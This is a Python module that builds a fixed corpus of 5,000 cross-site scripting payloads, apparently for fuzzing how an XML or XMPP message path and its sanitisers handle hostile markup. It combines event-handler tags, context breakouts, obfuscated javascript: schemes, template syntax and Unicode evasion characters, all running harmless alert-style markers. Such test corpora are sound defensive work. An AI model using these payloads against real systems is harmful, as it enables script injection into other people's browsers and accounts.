"""Five thousand texts of which each would run as a program somewhere: made of a grammar, the same in every run.

All are legal in XML and begin with no sign of a command, so that every one has to arrive as it was written.
"""

from collections.abc import Iterator, Sequence
from itertools import islice, product

MOST = 5_000
STRIDE = 7_919
"""A prime that divides no number of combinations here."""
RUNS = ("alert(1)", "window.hit=1", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "\\u0061lert`1`")
ELEMENTS = (
    "script", "img", "svg", "iframe", "body", "input", "video", "audio", "details", "math", "object", "embed",
    "marquee", "style", "template", "isindex", "x-y", "a", "form", "base", "meta", "link", "textarea", "title",
    "noscript", "select",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onpointerover", "OnClIcK", "onanimationstart")
QUOTES = ('"', "'", "`", "", "&quot;", "&#34;")
SEPARATORS = (" ", "/", "\t", "\n", "\u3000", "/**/", "\u00a0", "\u200b")
BREAKOUTS = (
    '">', "'>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</p></li>",
    "\\\";", "${", "#{", "<%=", "{{", "}}", "`+", "\\u003c", "&lt;/p&gt;", "%3C/p%3E", "+ADw-", "\u2028", "\u2029",
    "?>", "--!>",
)  # fmt: skip
SCHEMES = ("javascript:", "data:text/html,", "vbscript:", "xmpp:", "blob:", "file:///", "view-source:", "jAvAsCrIpT:")
PLACES = ('<a href="{}">x</a>', "[x]({})", "<{}>", "{}", '<iframe src="{}">', "<form action={}><button>", "url({})")
STANZAS = (
    "</body></message>{}", "<body>{}</body>", "</stream:stream>{}", "<![CDATA[{}]]>",
    "<!DOCTYPE x [<!ENTITY a '{}'>]>&a;",
    "<?xml-stylesheet href='{}'?>", "<x xmlns='jabber:x:data'>{}</x>", "&#60;{}&#62;", "&amp;lt;{}",
    "<iq type='set'>{}", "<html xmlns='http://www.w3.org/1999/xhtml'>{}</html>", "<presence type='unavailable'/>{}",
)  # fmt: skip
TEMPLATES = (
    "{{{{{}}}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{% {} %}}",
    "@({})",
    "[[{}]]",
    "%s%n{}",
    "{{0.__class__}}{}",
)
BLOCKS = (
    (0xFF01, 94), (0x202A, 5), (0x2066, 4), (0x200B, 5), (0x0300, 30), (0xE0020, 60), (0x1F600, 30), (0x2FF0, 12),
    (0x590, 50), (0x600, 60), (0xFE00, 16), (0x1D400, 50), (0xE000, 20), (0xFDF0, 13), (0x80, 32), (0x13A0, 40),
    (0x2060, 5), (0x0430, 32),
)  # fmt: skip
"""First letter and number of letters: look-alikes, directions, no width, private letters, control letters."""


def corpus(most: int = MOST) -> list[str]:
    """`most` different texts, of each family as many as come to its turn."""
    families = [_elements(), _mutations(), _breakouts(), _schemes(), _stanzas(), _templates(), _letters()]
    found: dict[str, None] = {}
    while families and len(found) < most:
        for family in tuple(families):
            text = next(family, None)
            if text is None:
                families.remove(family)
            else:
                found[text] = None
    return list(islice(found, most))


def _mixed(*parts: Sequence[str]) -> Iterator[tuple[str, ...]]:
    """Every combination once, and neighbours unlike: so that the first few hundred have something of each part."""
    every = list(product(*parts))
    for number in range(len(every)):
        yield every[number * STRIDE % len(every)]


def _elements() -> Iterator[str]:
    for run, quote, blank, handler, name in _mixed(RUNS, QUOTES, SEPARATORS, HANDLERS, ELEMENTS):
        yield f"<{name}{blank}src=x {handler}={quote}{run}{quote}>"


def _mutations() -> Iterator[str]:
    """What is mended by a parser into something else than was written."""
    for run, outer, inner, breakout in _mixed(RUNS, ELEMENTS, ELEMENTS, BREAKOUTS):
        yield f"<{outer}><{inner}><!--{breakout}<img src onerror={run}>--></{outer}>"


def _breakouts() -> Iterator[str]:
    for run, name, first, then in _mixed(RUNS, ELEMENTS, BREAKOUTS, BREAKOUTS):
        yield f"x{first}{then}<{name} autofocus onfocus={run}>"


def _schemes() -> Iterator[str]:
    splits = ("", "\t", "\n", "\u00ad", "&Tab;", "&#x0A;", "%0a", "\u200b")
    for run, place, split, scheme in _mixed(RUNS, PLACES, splits, SCHEMES):
        yield place.format(scheme[:4] + split + scheme[4:] + run)


def _stanzas() -> Iterator[str]:
    for run, name, stanza, quote in _mixed(RUNS, ELEMENTS, STANZAS, QUOTES):
        yield stanza.format(f"<{name} a={quote}{run}{quote}/>")


def _templates() -> Iterator[str]:
    for run, template, quote, breakout in _mixed(RUNS, TEMPLATES, QUOTES, BREAKOUTS):
        yield template.format(f"{quote}{run}{quote}") + breakout + "."


def _letters() -> Iterator[str]:
    """Every letter of the blocks beside, within and instead of what is dangerous."""
    for step in range(max(number for _, number in BLOCKS)):
        for first, number in BLOCKS:
            if step < number:
                letter = chr(first + step)
                yield f"<scr{letter}ipt>{letter}{RUNS[step % len(RUNS)]}</scr{letter}ipt>"
                yield f"x{letter}<img src=x onerror{letter}=alert(1)>{letter}.>"
